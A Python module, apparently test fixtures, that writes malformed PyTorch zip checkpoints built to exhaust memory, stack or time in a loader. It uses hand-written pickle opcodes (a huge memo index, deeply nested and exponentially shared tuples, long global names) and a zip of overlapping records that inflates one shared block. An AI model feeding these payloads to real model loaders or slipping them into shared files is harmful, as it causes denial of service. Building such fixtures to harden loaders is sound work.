"""Small torch zip files that were made to exhaust time, memory or the stack of whoever reads them."""

import struct
import zipfile
import zlib
from pathlib import Path

_START = b"\x80\x02}"  # protocol 2, and the empty dict that will be returned


def _save(path: Path, pickled: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a/data.pkl", pickled)


def memo_of_gigabytes(path: Path) -> None:
    """Stores a value in the memo at an index that makes pickle's own memo, which is an array, take 4 GiB."""
    _save(path, _START + b"r" + struct.pack("<I", 2**28) + b".")


def nested_tuples(path: Path, depth: int = 200_000) -> None:
    """Takes the hash of a tuple in a tuple in a tuple, which overflows the stack of the process."""
    _save(path, _START + b")" + b"\x85" * depth + b"K\x01s.")


def tuples_of_twins(path: Path, depth: int = 40) -> None:
    """Takes the hash of pairs of one and the same pair, which takes 2 to the power of ``depth`` steps."""
    _save(path, _START + b")" + b"q\0h\0\x86" * depth + b"K\x01s.")


def names_of_long_texts(path: Path, size: int = 100_000, count: int = 10_000) -> None:
    """Asks for names of two long texts, which would be 200 KB each if they were joined."""
    text = b"X" + struct.pack("<I", size) + bytes(size)
    _save(path, _START + text + b"q\0" + text + b"q\1" + b"](" + b"h\0h\1\x93" * count + b"e}.")


def overlapping_records(path: Path, records: int = 290, size: int = 2_000_000) -> None:
    """Writes many records that end in the same ``size`` bytes, and a tensor of one element of each."""
    _write_overlapping(path, [f"a/data/{number:07d}" for number in range(records)], bytes(size))


def _write_overlapping(path: Path, names: list[str], shared: bytes) -> None:
    """Writes one header after the other; every record starts behind its header and ends where the file's data ends."""
    width = 30 + len(names[0])
    tails = [shared]  # the data of the last record, of the last but one, ...
    entries = []
    for number, name in reversed(list(enumerate(names))):
        data = b"".join(reversed(tails))
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0)
        tails.append(b"PK\3\4" + fields + name.encode())
        start = struct.pack("<HHHII", 0, 0, 0, 0, number * width)
        entries.append(b"PK\1\2" + struct.pack("<H", 20) + fields + start + name.encode())
    body = b"".join(reversed(tails))
    # The pickle lies behind them, and so does the list of all records.
    counts = [(len(shared) + (len(names) - 1 - number) * width) // 4 for number in range(len(names))]
    pickled = _START + b"(" + b"".join(map(_tensor, names, counts)) + b"u."
    name = "a/data.pkl"
    fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, zlib.crc32(pickled), len(pickled), len(pickled), len(name), 0)
    start = struct.pack("<HHHII", 0, 0, 0, 0, len(body))
    entries.append(b"PK\1\2" + struct.pack("<H", 20) + fields + start + name.encode())
    body += b"PK\3\4" + fields + name.encode() + pickled
    directory = b"".join(entries)
    count = len(entries)
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
    path.write_bytes(body + directory + end)


def _tensor(name: str, count: int) -> bytes:
    """Returns the opcodes of a key and of a tensor of one element."""
    key = name.rsplit("/", 1)[-1].encode()
    text = b"X" + struct.pack("<I", len(key)) + key
    storage = b"(X\7\0\0\0storagectorch\nFloatStorage\n" + text + b"X\3\0\0\0cpuJ" + struct.pack("<I", count) + b"tQ"
    return text + b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\0K\1\x85K\1\x85\x89}tR"
